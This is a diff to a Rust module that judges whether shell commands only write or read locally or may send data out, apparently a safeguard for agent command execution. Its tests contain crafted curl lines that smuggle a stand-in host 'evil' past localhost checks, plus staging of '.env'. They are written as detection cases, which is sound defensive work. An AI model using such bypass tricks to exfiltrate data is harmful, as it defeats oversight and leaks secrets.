@@ -8,8 +8,7 @@ use std::sync::LazyLock;
 /// Commands that do nothing with a text but write it down.
 const WRITERS: [&str; 8] = ["apply_patch", "cat", "cd", "chmod", "ls", "mkdir", "tee", "touch"];
 /// Commands that show a file, or say something, and run nothing.
-const READERS: [&str; 11] =
-    ["echo ", "git add ", "git diff ", "git status ", "grep ", "head ", "pwd ", "sleep ", "tail ", "true ", "wc "];
+const READERS: [&str; 8] = ["echo", "grep", "head", "pwd", "sleep", "tail", "true", "wc"];
 /// Signs that are no more than themselves wherever they stand, as letters and digits are: in no quotes too.
 const INERT: &str = "!#%*+,-./:=?@[]^_~";
 /// What begins an option, a comment or a literal of another language, where a word begins.
@@ -29,15 +28,14 @@ const AGAIN: &str =
 /// Options of `curl` that send to nobody else and show nothing of what is sent, and where its output may go.
 const CURL_OPTIONS: &str = concat!(
     r"(?:[ \t]+(?:-[fgiksS]{1,6}|--(?:fail|get|include|insecure|show-error|silent)",
-    r#"|(?:-[fgiksS]{0,5}X[ \t]*|--request[ \t]+)["']?(?:DELETE|GET|PATCH|POST|PUT)["']?"#,
+    r#"|(?:-[fgiksS]{0,5}X[ \t]*|--request[ \t]+)(?:(?:DELETE|GET|PATCH|POST|PUT)|'(?:DELETE|GET|PATCH|POST|PUT)'|"(?:DELETE|GET|PATCH|POST|PUT)")"#,
     r"|(?:-[fgiksS]{0,5}[bdFHmouw][ \t]*",
     r"|--(?:cookie|data|data-binary|data-raw|form|header|json|max-time|output|user|write-out)[ \t]+)",
     r#"(?:'[^']*'|"[^"$`\\]*(?:\\["\\][^"$`\\]*)*"|[\w@:.,/=+%-])+"#,
     r"|[0-2]?>>?[ \t]*(?:/dev/null|/tmp/[\w.-]+|[\w-][\w./-]*)|2>&1))*",
 );
 /// A URL of this machine.
-const OWN_URL: &str =
-    r#"["']?(?:http://)?(?:localhost|127\.0\.0\.1|\[::1\])(?::[0-9]{1,5})?(?:[/?][\w/?&=%.,:~+-]*)?["']?"#;
+const OWN_URL: &str = r"(?:http://)?(?:localhost|127\.0\.0\.1|\[::1\])(?::[0-9]{1,5})?(?:[/?][\w/?&=%.,:~+-]*)?";
 static IS_KEY: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(KEY).ok());
 static IS_CODE: LazyLock<Option<Regex>> = LazyLock::new(|| {
     let names = INTERPRETERS.trim_end().replace('\n', "|");
@@ -46,7 +44,8 @@ static IS_CODE: LazyLock<Option<Regex>> = LazyLock::new(|| {
 static IS_RUN_AGAIN: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(AGAIN).ok());
 static TO_THIS_MACHINE: LazyLock<Option<Regex>> = LazyLock::new(|| {
     let simple = r"(?:cd|echo|pwd|sleep|true)(?:[ \t]+[\w./~-]+)*";
-    let curl = format!(r"curl{CURL_OPTIONS}[ \t]+{OWN_URL}{CURL_OPTIONS}");
+    let url = format!(r#"(?:{OWN_URL}|'{OWN_URL}'|"{OWN_URL}")"#);
+    let curl = format!(r"curl{CURL_OPTIONS}[ \t]+{url}{CURL_OPTIONS}");
     let next = r"&&?|\|\||[;\n]";
     Regex::new(&format!(r"\A(?:\s*(?:{simple}[ \t]*(?:{next})|{curl}[ \t]*(?:{next}|\||\z)))+")).ok()
 });
@@ -70,7 +69,7 @@ pub(super) fn acts(text: &str) -> &str {
 /// A text in one piece where a backslash leads its lines on, without the calls of `curl` at its beginning that send to this machine
 /// only: behind anything else `curl` may be another program, or have been told of a proxy.
 pub(super) fn sends(text: &str) -> String {
-    let text = text.replace("\\\n", " ");
+    let text = text.replace("\\\n", "");
     let calls =
         TO_THIS_MACHINE.as_ref().and_then(|calls| calls.find(&text)).filter(|calls| calls.as_str().contains("curl"));
     text.get(calls.map_or(0, |calls| calls.end())..).unwrap_or_default().to_owned()
@@ -116,7 +115,7 @@ fn is_writer(command: &str) -> bool {
 
 /// Whether it does no more than write one down or show it.
 fn is_harmless(command: &str) -> bool {
-    let reads = READERS.iter().any(|reader| format!("{} ", command.trim()).starts_with(reader));
+    let reads = command.split_whitespace().next().is_some_and(|first| READERS.contains(&first));
     (is_writer(command) || reads) && !command.contains('`')
 }
 
@@ -175,7 +174,7 @@ struct Reading<'t> {
 }
 
 impl<'t> Reading<'t> {
-    /// The next line. False where it could be read in another way.
+    /// The next line. False where it does more than write, or behind a document than show it, or could be read in another way.
     fn line(&mut self, line: &'t str) -> bool {
         if let Some((word, _)) = self.end {
             if line.trim() == word {
@@ -198,7 +197,7 @@ impl<'t> Reading<'t> {
         };
         let Some((word, is_raw, rest)) = delimiter(rest) else { return false };
         (self.end, self.begun) = (Some((word, is_raw)), true);
-        is_plain(command) && is_plain(rest) && !self.is_unsure && !line.contains(".git/")
+        is_plain(command) && is_plain(rest) && !self.is_unsure
     }
 }
 
@@ -264,12 +263,7 @@ mod tests {
 
     #[test]
     fn what_is_written_and_shown_is_left_out_and_nothing_that_may_run_it() {
-        for behind in [
-            "git status && git add .env",
-            "echo \"it's done\"",
-            "wc -l a; head -3 ./a | grep -c 'x'",
-            "cd ..; pwd; true",
-        ] {
+        for behind in ["echo \"it's done\"", "wc -l a; head -3 ./a | grep -c 'x'", "cd ..; pwd; true"] {
             assert_eq!(acts(&format!("cat > a <<E\nx\nE\n{behind}")), "");
         }
         for behind in [
@@ -299,6 +293,7 @@ mod tests {
         for text in [
             "export PATH=.\ncat > a <<E\nx\nE",
             "cat > .git/config <<E\nx\nE\ngit status",
+            "cat > .env <<E\nx\nE\ngit add .env",
             "cat > a <<E\nx\nE\necho 'b\ncat > c <<E\n';send\nE\n",
         ] {
             assert_eq!(acts(text), text);
@@ -332,6 +327,9 @@ mod tests {
             "curl -x evil -d @ http://localhost",
             "curl -X CONNECT -d @ http://localhost:3128",
             "curl -X 'GET http://evil/' -d @ http://localhost:3128",
+            "curl -X 'GET http://localhost;' -d @ evil",
+            "curl -d @ 'http://localhost;@evil/'",
+            "curl -d @ 'http://localhost&' evil'",
             "curl -sx evil -d @ http://localhost",
             "curl -K a -d @ http://localhost",
             "curl -vd @ http://localhost 2>&1 | send",
